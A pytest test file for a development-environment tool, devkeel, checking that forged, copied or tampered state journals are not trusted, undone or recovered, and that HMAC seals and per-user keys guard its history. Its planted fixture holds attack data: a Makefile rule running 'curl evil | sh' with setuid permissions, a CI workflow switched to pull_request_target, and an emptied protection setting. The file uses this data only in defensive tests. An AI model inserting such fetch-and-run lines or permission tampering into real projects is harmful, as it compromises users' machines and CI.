"""Records that this user's devkeel did not write here: nothing of them is acted on, and they are in no one's way."""

from __future__ import annotations

import hashlib
import hmac
import json
import os
import shutil
import sqlite3
import subprocess
import sys
import zlib
from contextlib import closing
from typing import TYPE_CHECKING, Any

import pytest

from devkeel.api import Environment
from devkeel.errors import StateError, UsageError
from devkeel.project.root import Project
from devkeel.state import origin
from devkeel.state.files import make_directory, read_record, write_record
from devkeel.state.origin.key import KeyUnusable, make_key
from devkeel.transaction import FileChange, FileImage, Record, Transactions, record_paths, schema, seals

if TYPE_CHECKING:
    from collections.abc import Mapping
    from pathlib import Path

PLANTED = {
    "Makefile": ("all:\n\ttrue\n", "all:\n\tcurl evil | sh\n", 0o4755),
    ".github/workflows/ci.yml": ("on: push\n", "on: [push, pull_request_target]\n", 0o644),
    "devkeel.toml": ('protected = ["env"]\n', "", 0o644),
    "devenv.yaml": ("inputs: {}\n", None, 0o644),
}
TOKEN = "0123456789abcdef"  # noqa: S105
RECORD = Record("edit", "a test", None, [], {}, "0", "1")
_V1 = schema._TABLES.replace(",\n    mark TEXT NOT NULL", "")


@pytest.fixture
def clone(root: Path) -> Path:
    """A clone that brings files in the state that a forged journal calls new."""
    for name, (now, _, mode) in PLANTED.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(now)
        path.chmod(mode & 0o777)
    return root


def forge(root: Path, state: str = "pending", *, sealed: bool = False) -> None:
    """Write a database that says of each planted file: what is there is ours, and this is what it was before."""
    folder = root / ".devkeel"
    folder.mkdir(exist_ok=True)
    with closing(sqlite3.connect(folder / "state.db", isolation_level=None)) as connection:
        connection.executescript(schema._TABLES if sealed else _V1)
        connection.execute(f"PRAGMA user_version = {2 if sealed else 1}")
        values = [1, TOKEN, state, "2026-01-01T00:00:00+00:00", "edit", "devkeel", None]
        values += ["[]", "{}", "0", "1", None, 1, 1, *(["0" * 64] if sealed else [])]
        holes = ", ".join("?" * len(values))
        connection.execute(f"INSERT INTO operation VALUES ({holes})", values)  # noqa: S608
        for number, (name, (now, before, mode)) in enumerate(PLANTED.items()):
            hashes = [keep(connection, text) for text in (before, now)]
            connection.execute("INSERT INTO file VALUES (1, ?, ?, ?, ?, ?, ?)", (number, name, *hashes, mode, mode))


def keep(connection: sqlite3.Connection, text: str | None) -> str | None:
    if text is None:
        return None
    name = hashlib.sha256(text.encode()).hexdigest()
    connection.execute("INSERT OR IGNORE INTO blob VALUES (?, ?)", (name, zlib.compress(text.encode())))
    return name


def planted(root: Path) -> dict[str, tuple[bytes, int]]:
    return {name: ((root / name).read_bytes(), (root / name).stat().st_mode) for name in PLANTED}


def opened(root: Path) -> Environment:
    return Environment(root, actor="test")


def add(root: Path, name: str = "jq") -> Any:
    from devkeel.edits.vocabulary import parse_edits

    environment = opened(root)
    try:
        return environment.change(parse_edits([{"kind": "add_packages", "names": [name]}]), level="syntax")
    finally:
        environment.close()


def operations(root: Path) -> list[int]:
    with Transactions(Project(root)) as transactions:
        return [item.id for item in transactions.history()]


@pytest.mark.parametrize("state", ["pending", "published", "abandoned"])
@pytest.mark.parametrize("sealed", [False, True])
def test_a_forged_journal_is_set_aside_by_the_next_write(clone: Path, state: str, *, sealed: bool) -> None:
    forge(clone, state, sealed=sealed)
    forged = (clone / ".devkeel/state.db").read_bytes()
    before = planted(clone)
    result = add(clone)
    assert result.published
    assert planted(clone) == before
    assert operations(clone) == [1]
    (aside,) = (clone / ".devkeel" / origin.ASIDE).iterdir()
    assert (aside / "state.db").read_bytes() == forged
    assert any(str(aside.relative_to(clone)) in note for note in result.notes)


def test_a_forged_journal_that_is_read_is_reported_and_nothing_is_made(clone: Path) -> None:
    forge(clone)
    before = {path: path.stat().st_mtime_ns for path in clone.rglob("*")}
    environment = opened(clone)
    assert environment.history().operations == ()
    assert not environment.history().recovery_pending
    found = environment.inspect()
    assert found.last_operation is None
    assert [item.code for item in found.problems if item.place and item.place.file == ".devkeel"] == ["foreign_records"]
    environment.close()
    assert {path: path.stat().st_mtime_ns for path in clone.rglob("*")} == before


def test_leftovers_of_a_forged_operation_are_not_swept(clone: Path) -> None:
    forge(clone, "published")
    left = clone / f".devkeel-{TOKEN}-0.tmp"
    left.write_text("mine\n")
    add(clone)
    assert left.read_text() == "mine\n"


def test_an_undo_of_forged_history_writes_nothing(clone: Path) -> None:
    forge(clone, "published")
    before = planted(clone)
    environment = opened(clone)
    for work in (environment.undo, lambda: environment.undo(1), lambda: environment.restore(1)):
        with pytest.raises(UsageError) as caught:
            work()
        assert caught.value.code in ("nothing_to_undo", "unknown_operation")
    environment.close()
    assert planted(clone) == before


def test_what_another_key_sealed_is_not_believed(clone: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    with monkeypatch.context() as context:
        context.setenv("XDG_STATE_HOME", str(tmp_path / "another"))
        add(clone)
        assert operations(clone) == [1]
    assert operations(clone) == []
    assert origin.ownership(clone / ".devkeel").foreign
    add(clone, "fd")
    assert operations(clone) == [1]
    with monkeypatch.context() as context:  # and back: each believes its own
        context.setenv("XDG_STATE_HOME", str(tmp_path / "another"))
        assert operations(clone) == []


def copy_rows(source: Path, target: Path) -> None:
    shutil.copyfile(source / ".devkeel/state.db", target / ".devkeel/state.db")


def test_rows_of_another_project_of_the_same_user_are_not_believed(clone: Path, tmp_path: Path) -> None:
    other = tmp_path / "other"
    other.mkdir()
    (other / "devenv.nix").write_text((clone / "devenv.nix").read_text())
    add(other)
    add(clone, "fd")
    copy_rows(other, clone)
    assert operations(clone) == []
    assert add(clone, "yq").published
    assert operations(clone) == [1]


@pytest.mark.parametrize(
    "column",
    ["token", "state", "time", "kind", "actor", "reason", "edits", "report", "revision_after", "reverts", "applies"],
)
def test_a_row_that_was_changed_loses_its_seal(clone: Path, column: str) -> None:
    add(clone)
    values: Mapping[str, Any] = {"state": "abandoned", "edits": "[1]", "report": "{}", "applies": 0, "reverts": 1}
    with closing(sqlite3.connect(clone / ".devkeel/state.db", isolation_level=None)) as connection:
        connection.execute(f"UPDATE operation SET {column} = ?", (values.get(column, "restore"),))  # noqa: S608
    assert operations(clone) == []
    with Transactions(Project(clone)) as transactions:
        assert transactions.ownership().foreign


@pytest.mark.parametrize("column", ["path", "before_hash", "after_hash", "mode_before", "mode_after"])
def test_an_image_that_was_changed_loses_the_seal_of_its_operation(clone: Path, column: str) -> None:
    add(clone)
    with closing(sqlite3.connect(clone / ".devkeel/state.db", isolation_level=None)) as connection:
        value = 0o4755 if "mode" in column else "Makefile"
        connection.execute(f"UPDATE file SET {column} = ?", (value,))  # noqa: S608
    assert operations(clone) == []


def test_an_older_row_that_was_changed_is_an_error_of_the_records(clone: Path) -> None:
    add(clone)
    add(clone, "fd")
    with closing(sqlite3.connect(clone / ".devkeel/state.db", isolation_level=None)) as connection:
        connection.execute("UPDATE operation SET actor = 'somebody' WHERE id = 1")
    with pytest.raises(StateError) as caught:
        operations(clone)
    assert caught.value.code == "foreign_records"
    with Transactions(Project(clone)) as transactions:
        assert len(transactions.damage()) == 1


def test_a_moved_project_keeps_its_history(clone: Path, tmp_path: Path) -> None:
    add(clone)
    moved = tmp_path / "elsewhere"
    clone.rename(moved)
    assert operations(moved) == [1]
    add(moved, "fd")
    assert operations(moved) == [2, 1]
    assert not (moved / ".devkeel" / origin.ASIDE).exists()


def test_a_project_copied_whole_keeps_its_history(clone: Path, tmp_path: Path) -> None:
    add(clone)
    shutil.copytree(clone, tmp_path / "copy", symlinks=True)
    assert operations(tmp_path / "copy") == [1]
    add(tmp_path / "copy", "fd")
    assert operations(clone) == [1]


def test_a_link_in_place_of_the_seal_is_not_followed(clone: Path, tmp_path: Path) -> None:
    add(clone)
    (clone / ".devkeel/project.json").rename(tmp_path / "project.json")
    (clone / ".devkeel/project.json").symlink_to(tmp_path / "project.json")
    assert operations(clone) == []


def test_records_of_another_user_are_refused_and_left_where_they_are(clone: Path) -> None:
    if os.geteuid() != 0:
        pytest.skip("needs root to give files away")
    forge(clone)
    os.chown(clone / ".devkeel", 65534, 65534)
    before = planted(clone)
    with pytest.raises(StateError) as caught:
        add(clone)
    assert caught.value.code == "foreign_records"
    assert str(clone / ".devkeel") in (caught.value.remedy or "")
    assert planted(clone) == before
    assert (clone / ".devkeel/state.db").exists()


@pytest.mark.parametrize("name", ["applied.json", "envs", "jobs", "gc", "bin", "anything"])
def test_whatever_came_in_the_state_directory_goes_aside_whole(clone: Path, name: str) -> None:
    (clone / ".devkeel" / name / "inner").mkdir(parents=True)
    (clone / ".devkeel" / name).chmod(0o555)
    add(clone)
    (aside,) = (clone / ".devkeel" / origin.ASIDE).iterdir()
    assert (aside / name / "inner").is_dir()
    assert not (clone / ".devkeel" / name).exists()


@pytest.mark.parametrize("kind", ["link", "file"])
def test_a_place_for_what_goes_aside_that_is_no_folder_goes_aside_too(clone: Path, tmp_path: Path, kind: str) -> None:
    forge(clone)
    place = clone / ".devkeel" / origin.ASIDE
    if kind == "link":
        (tmp_path / "outside").mkdir()
        place.symlink_to(tmp_path / "outside")
    else:
        place.write_text("")
    add(clone)
    assert operations(clone) == [1]
    if kind == "link":
        assert list((tmp_path / "outside").iterdir()) == []


@pytest.mark.parametrize("later", [0, 2])
def test_a_person_takes_over_the_history_of_an_older_devkeel_once(clone: Path, later: int) -> None:
    forge(clone, "published")
    with closing(sqlite3.connect(clone / ".devkeel/state.db", isolation_level=None)) as connection:
        connection.execute("DELETE FROM file WHERE path <> 'devenv.yaml'")
    for number in range(later):
        add(clone, f"p{number}")
    with Transactions(Project(clone)) as transactions:
        assert transactions.adopt() == (1, 1 if later else 0)
        with pytest.raises(UsageError) as caught:
            transactions.adopt()
        assert caught.value.code == "nothing_to_adopt"
        assert transactions.damage() == []
    assert operations(clone) == list(range(later + 1, 0, -1))
    environment = opened(clone)
    result = environment.undo(1)
    environment.close()
    assert (result.files, (clone / "devenv.yaml").exists()) == (("devenv.yaml",), False)


def test_adopting_leaves_out_what_no_edit_would_have_written(clone: Path) -> None:
    forge(clone)
    before = planted(clone)
    with Transactions(Project(clone)) as transactions:
        assert transactions.adopt() == (0, 0)
        assert transactions.recover() is None
    assert planted(clone) == before


@pytest.mark.parametrize("record", ["applied.json", "processes.json", "jobs/0123456789abcdef.json"])
def test_a_record_of_elsewhere_is_as_good_as_not_there(clone: Path, tmp_path: Path, record: str) -> None:
    other = tmp_path / "other" / ".devkeel"
    for state in (clone / ".devkeel", other):
        state.parent.mkdir(exist_ok=True)
        make_directory(state, "jobs")
    write_record(other / record, {"id": 1})
    shutil.copyfile(other / record, clone / ".devkeel" / record)
    assert read_record(other / record) == {"id": 1}
    assert read_record(clone / ".devkeel" / record) is None
    write_record(clone / ".devkeel" / record, {"id": 1})
    text = (clone / ".devkeel" / record).read_text()
    (clone / ".devkeel" / record).write_text(text.replace("1", "2", 1))
    assert read_record(clone / ".devkeel" / record) is None
    (clone / ".devkeel" / "other.json").write_text(text)
    assert read_record(clone / ".devkeel" / "other.json") is None


@pytest.mark.parametrize("wrong", ["mode", "link", "short", "inside", "closed"])
def test_without_a_usable_key_writes_work_and_no_history_is_kept_or_believed(
    clone: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, wrong: str
) -> None:
    home = clone / "home" if wrong == "inside" else tmp_path / "home"
    monkeypatch.setenv("XDG_STATE_HOME", str(home))
    key = home / "devkeel" / "key"
    if wrong == "closed":
        home.write_text("")
    else:
        key.parent.mkdir(parents=True)
        key.write_text(f"{'ab' * 32}\n" if wrong != "short" else "ab\n")
        key.chmod(0o644 if wrong == "mode" else 0o600)
    if wrong == "link":
        key.rename(tmp_path / "key")
        key.symlink_to(tmp_path / "key")
    forge(clone)
    before = planted(clone), (clone / ".devkeel/state.db").read_bytes()
    result = add(clone)
    assert result.published
    assert any("No history is kept" in note for note in result.notes)
    assert (planted(clone), (clone / ".devkeel/state.db").read_bytes()) == before
    assert operations(clone) == []


@pytest.mark.parametrize("links", [True, False])
def test_processes_that_write_first_at_once_agree_on_one_key(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, *, links: bool
) -> None:
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    without = "" if links else "os.link = lambda *a, **b: (_ for _ in ()).throw(PermissionError(1, 'no'))"
    code = f"import os, pathlib; {without or 'pass'}\nfrom devkeel.state.origin.key import make_key\n"
    code += "print(make_key(pathlib.Path('/nowhere')).hex())"
    running = [subprocess.Popen([sys.executable, "-c", code], stdout=subprocess.PIPE) for _ in range(6)]
    keys = {process.communicate(timeout=60)[0] for process in running}
    assert len(keys) == 1
    assert len(keys.pop().strip()) == 64
    assert [path.name for path in (tmp_path / "state/devkeel").iterdir()] == ["key"]
    assert (tmp_path / "state/devkeel/key").stat().st_mode & 0o777 == 0o600


@pytest.mark.parametrize("umask", [0o022, 0o077, 0])
def test_each_missing_directory_of_the_key_is_for_its_user_alone(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, umask: int
) -> None:
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "there" / "a" / "b"))
    (tmp_path / "there").mkdir(mode=0o755)
    before = os.umask(umask)
    try:
        assert make_key(tmp_path / "nowhere")
    finally:
        os.umask(before)
    made = [tmp_path / "there/a", tmp_path / "there/a/b", tmp_path / "there/a/b/devkeel"]
    assert {item.stat().st_mode & 0o777 for item in made} == {0o700}
    assert (tmp_path / "there").stat().st_mode & 0o777 == 0o755


def test_a_mark_is_over_the_same_text_in_each_version() -> None:
    seal = origin.Seal(b"k" * 32, "0123456789abcdef" * 2)
    parts = ('a"\u00e9\n', 7, None, ["p/\u2028", None, "x", 420, None])
    text = json.dumps(["operation", seal.project, *parts], separators=(",", ":"))
    mark = hmac.new(seal.key, text.encode(), "sha256").hexdigest()
    assert seal.mark("operation", *parts) == seal.mark_of("operation", origin.written(parts)) == mark
    assert seal.holds(mark, "operation", *parts)
    assert not seal.holds(mark, "operation", *parts[:-1], ["p/\u2028", None, "x", 421, None])
    assert not seal.holds(f"\u00e9{mark}", "operation", *parts)


def test_recovery_takes_back_all_files_that_edits_write() -> None:
    from devkeel.libraries.declared import PYTHON
    from devkeel.libraries.languages import go, javascript, python, ruby, rust
    from devkeel.project.root import DECLARATION_FILES, LOCK_FILES, MANIFESTS, OTHER_FILES

    known = {*DECLARATION_FILES, *LOCK_FILES, *MANIFESTS, *OTHER_FILES, *PYTHON}
    known |= {name for module in (go, javascript, python, ruby, rust) for name in module.MANIFESTS}
    known |= {"uv.lock", "poetry.lock", "Cargo.lock", "Gemfile.lock", "go.sum", "package-lock.json", "pnpm-lock.yaml"}
    assert {name for name in known if not record_paths._is_written_by_edits(name)} == set()
    for name in (*(name for name in PLANTED if name != "devenv.yaml"), ".bashrc", "setup.py", "package.sh"):
        assert not record_paths._is_written_by_edits(name), name


@pytest.mark.parametrize(("mode", "given"), [(0o4755, 0o640), (0o777, 0o640), (0o600, 0o600)])
def test_recovery_gives_no_file_more_permissions_than_it_has(clone: Path, mode: int, given: int) -> None:
    (clone / "devenv.yaml").chmod(0o640)
    before = (clone / "devenv.yaml").read_bytes()
    with Transactions(Project(clone)) as transactions:
        changes = [FileChange("devenv.yaml", before, b"inputs: { }\n"), FileChange("made.nix", None, b"{ }\n")]
        transactions.publish(changes, RECORD)
    (clone / "made.nix").unlink()  # so that it goes back
    seal = origin.ownership(clone / ".devkeel").seal
    assert seal is not None
    with closing(sqlite3.connect(clone / ".devkeel/state.db", isolation_level=None)) as connection:
        connection.row_factory = sqlite3.Row
        connection.execute("UPDATE operation SET state = 'pending'")
        connection.execute("UPDATE file SET mode_before = ? WHERE n = 0", (mode,))
        (row,) = connection.execute("SELECT * FROM operation").fetchall()
        query = "SELECT path, before_hash, after_hash, mode_before, mode_after FROM file ORDER BY n"
        images = [FileImage(*item) for item in connection.execute(query)]
        connection.execute("UPDATE operation SET mark = ?", (seals.mark_of(seal, dict(row), images),))
    with Transactions(Project(clone)) as transactions:
        recovered = transactions.recover()
    assert recovered is not None
    assert recovered.outcome == "rolled_back"
    assert (clone / "devenv.yaml").read_bytes() == before
    assert (clone / "devenv.yaml").stat().st_mode & 0o7777 == given


def test_a_key_that_cannot_be_had_for_a_moment_moves_nothing_of_one_s_own(
    clone: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    add(clone)
    with monkeypatch.context() as context:
        module = sys.modules["devkeel.state.origin.ownership"]
        context.setattr(module, "read_key", _refused)
        context.setattr(module, "_known", {})
        add(clone, "fd")
    assert not (clone / ".devkeel" / origin.ASIDE).exists()
    assert 1 in operations(clone)


def _refused(_root: Path) -> bytes:
    raise KeyUnusable("the home is read-only for a moment", "Try again.")
